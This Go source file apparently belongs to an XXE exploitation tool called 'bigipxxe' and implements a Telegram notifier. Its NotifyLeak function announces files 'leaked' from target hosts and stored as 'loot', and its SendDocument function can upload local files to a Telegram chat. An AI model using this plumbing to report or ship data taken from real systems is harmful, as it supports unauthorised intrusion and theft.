package notify

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/GhostN3xus/bigipxxe/pkg/config"
)

const defaultAPI = "https://api.telegram.org"

// Telegram sends run events to a chat through the Bot API.
type Telegram struct {
	token   string
	chatID  string
	baseURL string
	client  *http.Client
}

type Option func(*Telegram)

// WithBaseURL points the notifier at another Bot API endpoint.
func WithBaseURL(u string) Option {
	return func(t *Telegram) { t.baseURL = strings.TrimRight(u, "/") }
}

func WithHTTPClient(c *http.Client) Option {
	return func(t *Telegram) {
		if c != nil {
			t.client = c
		}
	}
}

// New returns nil when the token or chat id is missing.
func New(cfg config.NotificationsConfig, opts ...Option) *Telegram {
	if cfg.TelegramToken == "" || cfg.TelegramChatID == "" {
		return nil
	}
	t := &Telegram{
		token:   cfg.TelegramToken,
		chatID:  cfg.TelegramChatID,
		baseURL: defaultAPI,
		client:  &http.Client{Timeout: 15 * time.Second},
	}
	for _, opt := range opts {
		opt(t)
	}
	return t
}

// SendMessage posts a plain text message.
func (t *Telegram) SendMessage(ctx context.Context, text string) error {
	form := url.Values{
		"chat_id":    {t.chatID},
		"text":       {text},
		"parse_mode": {"Markdown"},
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, t.endpoint("sendMessage"), strings.NewReader(form.Encode()))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	return t.do(req, "sendMessage")
}

// SendDocument uploads the file at path, e.g. a generated report.
func (t *Telegram) SendDocument(ctx context.Context, path, caption string) error {
	file, err := os.Open(path)
	if err != nil {
		return err
	}
	defer file.Close()

	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	fw, err := w.CreateFormFile("document", filepath.Base(path))
	if err != nil {
		return err
	}
	if _, err := io.Copy(fw, file); err != nil {
		return err
	}
	_ = w.WriteField("chat_id", t.chatID)
	if caption != "" {
		_ = w.WriteField("caption", caption)
	}
	if err := w.Close(); err != nil {
		return err
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, t.endpoint("sendDocument"), &b)
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", w.FormDataContentType())
	return t.do(req, "sendDocument")
}

// NotifyLeak announces a retrieved file. The file content itself is not sent.
func (t *Telegram) NotifyLeak(ctx context.Context, host, remotePath, lootPath string, size int) error {
	msg := fmt.Sprintf("[bigipxxe] %s leaked `%s` (%d bytes)", host, remotePath, size)
	if lootPath != "" {
		msg += "\nstored at `" + lootPath + "`"
	}
	return t.SendMessage(ctx, msg)
}

func (t *Telegram) endpoint(method string) string {
	return fmt.Sprintf("%s/bot%s/%s", t.baseURL, t.token, method)
}

func (t *Telegram) do(req *http.Request, method string) error {
	resp, err := t.client.Do(req)
	if err != nil {
		return fmt.Errorf("notify: telegram %s: %w", method, err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		return fmt.Errorf("notify: telegram %s failed: %s", method, strings.TrimSpace(string(body)))
	}
	return nil
}
